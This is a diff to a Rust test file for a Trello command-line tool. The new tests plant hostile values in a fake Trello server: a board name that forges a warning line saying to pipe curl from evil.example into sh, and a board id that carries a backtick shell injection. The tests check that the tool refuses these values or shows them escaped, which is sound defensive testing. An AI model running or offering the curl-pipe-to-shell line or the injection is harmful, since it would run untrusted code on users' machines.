@@ -1,13 +1,12 @@
 //! The default board through the real binary against the fake Trello: `board set` by id,
 //! short link, URL and name, each error row, `board` / `board clear`, and the board in
-//! `status`, `env` and `exec`.
+//! `status`, `env` and `exec`; a board id or name from an answer checked before it
+//! is kept and never forging an output line.
 
 use crate::support;
 
 use support::cli::{ANN, Env, code, stderr, stdout};
-use support::fake_trello::{FakeTrello, Fault, KEY};
-
-const BOB: &str = "5f0000000000000000000b0b";
+use support::fake_trello::{BOB, FakeBoard, FakeTrello, Fault, KEY};
 
 fn with_boards() -> (FakeTrello, Env, String, String) {
     let fake = FakeTrello::with_ann();
@@ -154,11 +153,9 @@ fn status_env_and_exec_carry_the_board_and_status_checks_it() {
 /// `/1/members/me/boards` call for the whole run.
 #[test]
 fn the_picker_filters_chooses_and_clears() {
-    use support::pty::{ENTER, Pty, base_command};
+    use support::pty::{ENTER, Pty};
     let (fake, env, roadmap, _) = with_boards();
-    let mut cmd = base_command(env.dir.path());
-    cmd.env("TRELLO_API_BASE", &env.api_base);
-    cmd.env("TRELLO_WEB_BASE", &env.web_base);
+    let cmd = env.pty_command();
     let mut pty = Pty::spawn(cmd, 100, 30);
     pty.expect("b  choose the default board");
     pty.send("b");
@@ -183,4 +180,73 @@ fn the_picker_filters_chooses_and_clears() {
     assert_eq!(pty.wait(), 0);
     let lists = fake.requests().iter().filter(|r| r.uri.starts_with("/1/members/me/boards")).count();
     assert_eq!(lists, 1, "the board list is asked for once per run");
+}
+
+/// A board whose answer holds what a shell would run, and a forged output line in its name.
+fn hostile_board(fake: &FakeTrello, id: &str, short_link: &str) {
+    fake.state().boards.push(FakeBoard {
+        id: id.into(),
+        short_link: short_link.into(),
+        name: "Roadmap\ntrello-auth: warning: run curl https://evil.example | sh".into(),
+        workspace: None,
+        closed: false,
+        members: vec![ANN.into()],
+    });
+}
+
+/// An id or short link in an answer that is not Trello's shape is refused with
+/// the usual "unexpected answer" error, and nothing is saved or exported.
+#[test]
+fn a_board_id_from_an_answer_is_checked_before_it_is_kept() {
+    let fake = FakeTrello::with_ann();
+    let env = Env::new(&fake);
+    env.save("default", &fake.issue_token(KEY, ANN, "read,write", None), "never");
+    hostile_board(&fake, "`touch pwned`\nx", "AbCd1234");
+    for wanted in ["AbCd1234", "Roadmap\ntrello-auth: warning: run curl https://evil.example | sh"] {
+        let out = env.run(&["board", "set", wanted]);
+        assert_eq!(code(&out), 1, "{}", stderr(&out));
+        assert!(
+            stderr(&out).contains("not the JSON expected: a board id is not 24 hex characters"),
+            "{}",
+            stderr(&out)
+        );
+        assert!(stdout(&out).is_empty());
+    }
+    assert_eq!(env.store().profile("default").unwrap().unwrap().board_id, None);
+    let out = env.run(&["env"]);
+    assert!(!stdout(&out).contains("TRELLO_BOARD_ID"), "{}", stdout(&out));
+    // A member id that is not 24 hex is refused too.
+    fake.add_member("not-an-id", "mallory", "Mallory", "m@example.com");
+    let token = fake.issue_token(KEY, "not-an-id", "read,write", None);
+    let other = Env::new(&fake);
+    let out = other.run_with_stdin(&["login", "--with-token", "--key", KEY], &token);
+    assert_eq!(code(&out), 3, "an answer that is not Trello's: {}", stderr(&out));
+    assert!(stderr(&out).contains("the member's id is not 24 hex characters"), "{}", stderr(&out));
+    assert!(!other.config().exists());
+}
+
+/// A line break in a name never starts a line of output of its own.
+#[test]
+fn a_newline_in_a_name_cannot_forge_an_output_line() {
+    let fake = FakeTrello::with_ann();
+    let env = Env::new(&fake);
+    env.save("default", &fake.issue_token(KEY, ANN, "read,write", None), "never");
+    let id = "5b00000000000000000000ff";
+    hostile_board(&fake, id, "Zz00Zz00");
+    let set = env.run(&["board", "set", "Zz00Zz00"]);
+    assert_eq!(code(&set), 0, "{}", stderr(&set));
+    // The same name from the config file, and a member name from the file.
+    let text = std::fs::read_to_string(env.config()).unwrap().replace(
+        "member_full_name = \"Ann Example\"",
+        "member_full_name = \"Ann\\ntrello-auth: warning: run curl https://evil.example | sh\"",
+    );
+    std::fs::write(env.config(), text).unwrap();
+    for out in [set, env.run(&["board"]), env.run(&["status"]), env.run(&["status", "--offline"])] {
+        for stream in [stdout(&out), stderr(&out)] {
+            for line in stream.lines() {
+                assert!(!line.trim_start().starts_with("trello-auth: warning: run curl"), "a forged line:\n{stream}");
+            }
+        }
+    }
+    assert!(stdout(&env.run(&["board"])).contains("Roadmap\\ntrello-auth: warning"), "shown escaped");
 }
